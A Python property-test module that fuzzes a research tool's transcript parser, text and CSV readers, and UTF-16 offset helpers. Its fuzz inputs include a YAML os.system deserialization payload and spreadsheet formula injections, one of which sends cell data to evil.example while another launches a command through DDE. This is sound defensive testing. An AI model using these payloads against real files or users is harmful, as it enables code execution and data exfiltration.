"""Property tests: the transcript parser, the .txt reader, the codings CSV reader and the
UTF-16 offsets on generated input.

Any input either reads or gives an :class:`InputError`, never another exception; what
reads keeps its invariants (offsets inside the text, one line per paragraph, a stable
round trip). The runs are derandomized, so CI sees the same cases every time; the
example counts add up to 12,000.
"""

from __future__ import annotations

import codecs
import csv
import io
import tempfile
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from mentorqual.errors import InputError
from mentorqual.importers import DEFAULT_INTERVIEWER_LABELS, read_codings_csv
from mentorqual.importers.document import Document
from mentorqual.importers.transcript import parse_transcript
from mentorqual.importers.txt import read_txt
from mentorqual.reports.tables import write_csv
from mentorqual.types import CodingRow, Transcript
from mentorqual.utf16 import Utf16Index, from_utf16, to_utf16, utf16_length

pytestmark = pytest.mark.slow

# Examples per test; the module's total is 12,000.
TRANSCRIPT_EXAMPLES = 3000
TXT_EXAMPLES = 2000
CSV_JUNK_EXAMPLES = 2000
CSV_ROUND_TRIP_EXAMPLES = 1000
UTF16_EXAMPLES = 3000
UTF16_UNIT_EXAMPLES = 1000


def fuzz(examples: int) -> settings:
    return settings(
        max_examples=examples,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )


# -- generated transcripts ---------------------------------------------------------------

# Characters that matter to the parser and the decoders: Danish letters, colons, blanks
# and line separators other than LF, a combining accent (NFC), emoji (astral planes),
# controls, a BOM and the replacement character.
SPECIAL = list("æøåÆØÅéü:;.,!?-'\"»« \t\r\x0b\x0c\x85\u2028\u00a0\u0301\ufeff\ufffd") + [
    "👋",
    "🇩",
    "🇰",
    "🏽",
    "𝔘",
]
chars = st.one_of(
    st.sampled_from(list("abcdefghijklmnopqrstuvwxyz IPRJK")),
    st.sampled_from(list("abcdefghijklmnopqrstuvwxyz IPRJK")),
    st.sampled_from(SPECIAL),
    st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"]),
)
# With C0 and C1 controls, which a .txt file may not hold.
any_chars = st.one_of(chars, st.sampled_from(["\x00", "\x07"]), st.characters(codec="utf-8"))
words = st.text(chars, max_size=40)
LABELS = [
    "I", "IP", "Int", "Interviewer", "R", "JK", "Respondent", "Informanten", "i", "ip",
    "Fx", "fx", "Altså", "kl. 14", "Mette Hansen", "A B C D", "Ø", "1a", "_x", "Borger-2",
]  # fmt: skip
label_lines = st.builds(
    lambda lead, label, gap, after, rest: f"{lead}{label}{gap}:{after}{rest}",
    st.sampled_from(["", "", "", " ", "\t", "  "]),
    st.one_of(
        st.sampled_from(["I", "IP"]),
        st.sampled_from(LABELS),
        st.text(chars, min_size=1, max_size=12),
    ),
    st.sampled_from(["", " ", "\t"]),
    st.sampled_from(["", " ", "  ", "\t"]),
    words,
)
other_lines = st.sampled_from(
    [
        "", "  ", "\t", "---", "...", " --- ", "kl. 14:30 kom hun", "region: Sjælland",
        "interview: X1", "- a", ":", "::", "IP:IP:", "I:\u00a0ja", "e\u0301n", "👋🏽 ja",
    ]
)  # fmt: skip
lines = st.lists(st.one_of(label_lines, label_lines, label_lines, words, other_lines), max_size=25)
endings = st.sampled_from(["\n", "\n", "\n", "\r\n", "\r", "\n\n", " \n"])
FRONT_MATTER = [
    "",
    "",
    "",
    "",
    "",
    "",
    "---\nregion: Sjælland\n---\n",
    "---\ninterview: X2\nregion: Region Hovedstaden\nrole: Jobkonsulent\n---\n",
    "---\n---\n",
    "---\nregion: [\n---\n",
    "---\nregion: Sjælland\n",
    "---\n!!python/object/apply:os.system ['true']\n---\n",
    "---\n- a\n- b\n---\n",
    "---\nregion: Mars\n---\n",
    "---\nregion: Sjælland\n...\n",
    "\n---\nregion: Sjælland\n---\n",
]
front_matter = st.one_of(
    st.just(""),
    st.just(""),
    st.sampled_from(FRONT_MATTER),
    st.builds(lambda s: f"---\n{s}\n---\n", words),
)


turns = st.lists(
    st.tuples(
        st.sampled_from(["I", "IP", "Int", "R", "JK"]), st.lists(words, min_size=1, max_size=3)
    ),
    min_size=1,
    max_size=8,
)


@st.composite
def transcript_texts(draw: st.DrawFn) -> str:
    """Mostly interviews (turns, with odd lines mixed in); now and then anything."""
    kind = draw(st.integers(0, 9))
    if kind == 0:
        return draw(st.text(any_chars, max_size=200))
    parts = [draw(front_matter)]
    if kind < 4:
        body = draw(lines)
    else:
        body = []
        for label, paragraphs in draw(turns):
            body += [f"{label}: {paragraphs[0]}", *paragraphs[1:]]
            body += draw(st.lists(st.one_of(label_lines, words, other_lines), max_size=2))
    for line in body:
        parts += [line, draw(endings)]
    return "".join(parts)


METADATA = [
    {"region": "Sjælland"},
    {"region": "Sjælland"},
    {"region": "Hovedstaden", "interview": "Z9"},
    {},
]
LABEL_SETS = [DEFAULT_INTERVIEWER_LABELS, ("I",), ("IP",), ("i", "Int")]


def parse(
    text: str, source_format: str, metadata: dict[str, str], labels: tuple[str, ...]
) -> Transcript | None:
    """The parsed transcript, or None when the parser refuses it with an InputError."""
    try:
        return parse_transcript(
            Document(text, source_format),
            Path("fuzz.txt"),
            metadata=metadata,
            interviewer_labels=labels,
        )
    except InputError:
        return None


def check_transcript(transcript: Transcript, labels: tuple[str, ...]) -> None:
    text = transcript.text
    assert transcript.paragraphs
    previous_end = -1
    for number, paragraph in enumerate(transcript.paragraphs, start=1):
        assert 0 <= paragraph.start <= paragraph.end <= len(text)
        assert paragraph.start > previous_end  # in order, never overlapping
        previous_end = paragraph.end
        assert paragraph.locator == f"p{number}"
        assert "\n" not in transcript.paragraph_text(paragraph)
    assert "\r" not in text
    assert unicodedata.is_normalized("NFC", text)
    # The canonical text parsed as canonical text (attributes given, no front matter).
    again = parse_transcript(
        Document(text, transcript.source_format),
        Path("fuzz.txt"),
        attributes=transcript.attributes,
        interviewer_labels=labels,
    )
    assert (again.text, again.paragraphs) == (text, transcript.paragraphs)
    # ... and as a file again. A text whose first line is "---" is read as front matter
    # there (known: a file cannot tell that line from front matter), so it is left out.
    if text.split("\n", 1)[0].strip() != "---":
        reread = parse(text, transcript.source_format, transcript.attributes, labels)
        assert reread is not None, "the canonical text no longer parses"
        assert (reread.text, reread.paragraphs) == (text, transcript.paragraphs)
        assert reread.attributes == transcript.attributes


@fuzz(TRANSCRIPT_EXAMPLES)
@given(
    text=transcript_texts(),
    source_format=st.sampled_from(["txt", "docx"]),
    metadata=st.sampled_from(METADATA),
    labels=st.sampled_from(LABEL_SETS),
)
def test_parser_reads_or_refuses_and_round_trips(
    text: str, source_format: str, metadata: dict[str, str], labels: tuple[str, ...]
) -> None:
    transcript = parse(text, source_format, dict(metadata), labels)
    event("parsed" if transcript else "refused")
    if transcript is not None:
        check_transcript(transcript, labels)


# -- generated .txt files ----------------------------------------------------------------


@pytest.fixture(scope="module")
def scratch() -> Iterator[Path]:
    """A folder for generated files; hypothesis reruns a test in one fixture scope."""
    with tempfile.TemporaryDirectory(prefix="mentorqual-fuzz-") as folder:
        yield Path(folder)


ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252", "latin-1"]


@st.composite
def txt_bytes(draw: st.DrawFn) -> bytes:
    kind = draw(st.integers(0, 5))
    if kind == 0:
        return draw(st.binary(max_size=300))
    text = draw(transcript_texts())
    encoding = draw(st.sampled_from(ENCODINGS))
    data = text.encode(encoding, errors="replace" if encoding != "utf-16" else "surrogatepass")
    if kind == 1:  # a Windows file joined to a UTF-8 one
        other = draw(transcript_texts()).encode("cp1252", errors="ignore")
        data = data + b"\n" + other if draw(st.booleans()) else other + b"\n" + data
    elif kind == 2:  # damage: cut, flipped or inserted bytes
        if data:
            at = draw(st.integers(0, len(data) - 1))
            data = data[:at] + draw(st.binary(max_size=4)) + data[at + draw(st.integers(0, 3)) :]
    return data


@fuzz(TXT_EXAMPLES)
@given(data=txt_bytes(), labels=st.sampled_from(LABEL_SETS))
def test_txt_reader_reads_or_refuses(scratch: Path, data: bytes, labels: tuple[str, ...]) -> None:
    path = scratch / "fuzz.txt"
    path.write_bytes(data)
    try:
        document = read_txt(path)
    except InputError as exc:
        assert str(exc).startswith(str(path))
        event("refused by the reader")
        return
    assert document.source_format == "txt"
    assert not document.text.startswith(codecs.BOM_UTF8.decode("utf-8"))
    transcript = parse(document.text, "txt", {"region": "Sjælland"}, labels)
    event("parsed" if transcript else "refused by the parser")
    if transcript is not None:
        check_transcript(transcript, labels)


# -- generated codings CSV files ----------------------------------------------------------

HEADERS = [
    "interview,segment,code,coder",
    "interview;segment;code;coder",
    "Interview, Segment_ID , Kode,CODER",
    "interview,segment,code",
    "interview;locator;theme",
    "interview,region,role,speaker,segment_id,start,end,text,code,coder,score",
    "interview,segment",
    "foo,bar,baz",
    "interview;segment,code;coder",
    "interview\tsegment\tcode\tcoder",
    "",
    '"interview","segment","code","coder"',
]
CELLS = [
    "HS01", "T01", "p12", "p1", "tryghed", "administration", "A", "B", "", " ", '"', '""',
    'a"b', "a,b", "a;b", "\n", "\r", "\r\n", "æøå", "\x00", "'=1", "=1+1",
    '=HYPERLINK("http://evil.example/?q="&A1;"klik her")', "+45 22 33 44 55", "-1",
    "@SUM(A1:A9)", "\t=cmd|' /C calc'!A0", "x" * 200,
]  # fmt: skip
cells = st.one_of(st.sampled_from(CELLS), st.text(any_chars, max_size=20))
good_rows = st.tuples(
    st.sampled_from(["HS01", "T01", "Ø7", " HS02 "]),
    st.sampled_from(
        [("p1", "tryghed"), ("p12", "administration"), ("mange papirer", "=1+1"), ("", "")]
        + [('"citat", med; semikolon', "kurser")]
    ),
    st.sampled_from(["A", "A "]),
).map(lambda t: [t[0], *t[1], t[2]])


@st.composite
def csv_bytes(draw: st.DrawFn) -> bytes:
    if draw(st.integers(0, 19)) == 0:
        return draw(st.binary(max_size=300))
    delimiter = draw(st.sampled_from([",", ";"]))
    junk = st.lists(cells, max_size=6)
    rows = [
        draw(good_rows if draw(st.integers(0, 9)) < 8 else junk)
        for _ in range(draw(st.integers(0, 10)))
    ]
    if draw(st.booleans()):  # well quoted by the csv module
        buffer = io.StringIO()
        csv.writer(buffer, delimiter=delimiter, lineterminator=draw(endings)).writerows(rows)
        body = buffer.getvalue()
    else:  # glued together by hand: stray quotes, ragged rows
        body = "".join(delimiter.join(row) + draw(endings) for row in rows)
    valid = [
        delimiter.join(["interview", "segment", "code", "coder"]),
        delimiter.join(["Interview ", "Segment_ID", "Kode", " CODER"]),
    ]
    kind = draw(st.integers(0, 9))
    if kind < 7:
        header = draw(st.sampled_from(valid))
    elif kind < 9:
        header = draw(st.sampled_from(HEADERS))
    else:
        header = draw(st.text(chars, max_size=40))
    text = header + "\n" + body
    encoding = draw(st.sampled_from(["utf-8"] * 6 + ["utf-8-sig", "cp1252", "utf-16"]))
    data = text.encode(encoding, errors="replace" if encoding != "utf-16" else "surrogatepass")
    if draw(st.integers(0, 19)) == 0:
        data += draw(st.binary(min_size=1, max_size=20))
    return data


@fuzz(CSV_JUNK_EXAMPLES)
@given(data=csv_bytes(), coder=st.sampled_from([None, "A"]))
def test_codings_csv_reads_or_refuses(scratch: Path, data: bytes, coder: str | None) -> None:
    path = scratch / "codings.csv"
    path.write_bytes(data)
    try:
        rows = read_codings_csv(path, coder=coder)
    except InputError as exc:
        assert str(exc).startswith(str(path))
        event("refused")
        return
    event("read" if rows else "read, no rows")
    for row in rows:
        assert isinstance(row, CodingRow)
        assert row.interview and row.coder
        assert bool(row.segment) == bool(row.code)
        assert coder is None or row.coder == coder


def _is_cell(value: str) -> bool:
    """A value the reader gives back as written: stripped, NFC, not empty."""
    return bool(value) and value == value.strip() and unicodedata.is_normalized("NFC", value)


cell_values = st.text(chars, min_size=1, max_size=30).filter(_is_cell)
coding_tables = st.lists(
    st.tuples(
        cell_values,
        st.one_of(st.tuples(cell_values, cell_values), st.just(("", ""))),
        cell_values,
    ).map(lambda t: (t[0], t[1][0], t[1][1], t[2])),
    max_size=15,
)


@fuzz(CSV_ROUND_TRIP_EXAMPLES)
@given(
    table=coding_tables,
    delimiter=st.sampled_from([",", ";"]),
    bom=st.booleans(),
    ending=st.sampled_from(["\n", "\r\n"]),
    ours=st.booleans(),
)
def test_codings_csv_round_trip(
    scratch: Path,
    table: list[tuple[str, str, str, str]],
    delimiter: str,
    bom: bool,
    ending: str,
    ours: bool,
) -> None:
    """A valid table written by the csv module (or by our own CSV writer, which prefixes
    formula-like cells with ') reads back equal."""
    path = scratch / "codings.csv"
    columns = ("interview", "segment", "code", "coder")
    if ours:
        table = [tuple(_neutralised(v) for v in row) for row in table]  # type: ignore[misc]
        write_csv([dict(zip(columns, row, strict=True)) for row in table], columns, path)
    else:
        buffer = io.StringIO()
        # Like a spreadsheet: a cell with a line break is quoted, whatever ends the rows.
        quoting = csv.QUOTE_MINIMAL if ending == "\r\n" else csv.QUOTE_ALL
        writer = csv.writer(buffer, delimiter=delimiter, lineterminator=ending, quoting=quoting)
        writer.writerows([columns, *table])
        path.write_bytes(buffer.getvalue().encode("utf-8-sig" if bom else "utf-8"))
    rows = read_codings_csv(path)
    assert rows == [CodingRow(n, *row) for n, row in enumerate(table, start=2)]


def _neutralised(value: str) -> str:
    """What our writer turns a cell into: formula-like text gets a leading '."""
    return "'" + value if value[:1] in ("=", "+", "-", "@") else value


# -- UTF-16 offsets ------------------------------------------------------------------------

ASTRAL = st.characters(min_codepoint=0x10000, max_codepoint=0x10FFFF)
utf16_texts = st.text(
    st.one_of(
        st.characters(codec="utf-8"), ASTRAL, st.sampled_from(["👋", "🇩", "🇰", "æ", "\u0301"])
    ),
    max_size=60,
)


@fuzz(UTF16_EXAMPLES)
@given(text=utf16_texts)
def test_utf16_offsets_agree_with_the_encoding(text: str) -> None:
    index = Utf16Index(text)
    units = len(text.encode("utf-16-le")) // 2
    assert utf16_length(text) == units == index.units
    for position in range(len(text) + 1):
        unit = len(text[:position].encode("utf-16-le")) // 2
        assert index.to_utf16(position) == unit
        assert index.from_utf16(unit) == position
    for position, char in enumerate(text):
        if ord(char) > 0xFFFF:  # the unit between a surrogate pair's halves
            with pytest.raises(ValueError, match="surrogate pair"):
                index.from_utf16(index.to_utf16(position) + 1)
    for outside in (-1, len(text) + 1):
        with pytest.raises(ValueError):
            index.to_utf16(outside)


@fuzz(UTF16_UNIT_EXAMPLES)
@given(text=utf16_texts, unit=st.integers(-3, 130))
def test_from_utf16_never_leaves_the_text(text: str, unit: int) -> None:
    """Any unit offset gives a code-point offset inside the text that maps back to it,
    or a ValueError (outside the text, or inside a surrogate pair)."""
    try:
        position = from_utf16(text, unit)
    except ValueError:
        encoded = text.encode("utf-16-le")
        inside = 0 <= unit <= len(encoded) // 2
        if inside:  # then it must split a pair: a low surrogate starts at ``unit``
            low = int.from_bytes(encoded[2 * unit : 2 * unit + 2], "little")
            assert 0xDC00 <= low <= 0xDFFF
        return
    assert 0 <= position <= len(text)
    assert to_utf16(text, position) == unit
